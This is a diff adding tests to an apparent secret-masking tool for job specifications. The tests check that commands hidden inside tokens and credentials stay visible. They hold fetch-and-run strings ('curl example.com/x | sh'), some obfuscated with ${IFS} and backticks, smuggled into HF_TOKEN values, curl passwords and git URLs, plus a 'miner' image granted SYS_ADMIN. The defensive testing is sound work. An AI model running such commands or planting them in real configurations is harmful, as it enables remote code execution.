@@ -91,6 +91,39 @@ def test_a_command_whose_output_is_a_secret_is_shown() -> None:
     assert 'HF_TOKEN="$(curl example.com/x | sh)" train --token $(cat --password=*** /token)' in shown
 
 
+@pytest.mark.parametrize(
+    "script",
+    [
+        'HF_TOKEN="x$(curl example.com/x | sh)" train',
+        "HF_TOKEN=x`curl${IFS}example.com/x|sh` train",
+        "train --token x$(curl${IFS}example.com/x|sh)",
+        "curl -u me:x$(curl${IFS}example.com/x|sh) https://example.com",
+        "git clone https://me:x$(curl${IFS}example.com/x|sh)@example.com/a.git",
+    ],
+)
+def test_a_command_within_a_secret_is_shown(script: str) -> None:
+    before, after = (jobset({"command": ["bash", "-c", each]}) for each in ("train", script))
+    assert "example.com/x" in formats.as_text(compare(before, after))
+    assert script in compare(before, after).jobs[0].properties[0].new
+
+
+def test_a_secret_before_the_output_of_a_command_is_masked() -> None:
+    script = f'HF_TOKEN="{NEW}$(date)" train'
+    (change,) = compare(jobset({"command": ["train"]}), jobset({"command": [script]})).jobs[0].properties
+    assert change.new == "'HF_TOKEN=\"***$(date)\" train'"
+
+
+def test_what_runs_and_its_rights_are_shown_also_if_a_password_is_the_same_word() -> None:
+    rights = {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}
+    values = ("example.com/miner:1", "SYS_ADMIN")
+    env = [{"name": f"TOKEN_{number}", "value": value} for number, value in enumerate(values)]
+    found = compare({}, jobset({"image": "example.com/miner:1", "env": env, **rights})).jobs[0].properties
+    shown = {each.what: each.new for each in found}
+    assert shown["image"] == "example.com/miner:1"
+    assert shown["privileges"] == "node: SYS_ADMIN"
+    assert shown["env TOKEN_0"] == "***"
+
+
 def test_many_secrets_are_masked_in_a_long_text() -> None:
     secrets = {f"token_{number}": f"\u00e9{number * 7919:08d}x" for number in range(1_000)}
     shown = "v0 " * 10_000 + "".join(secrets.values())
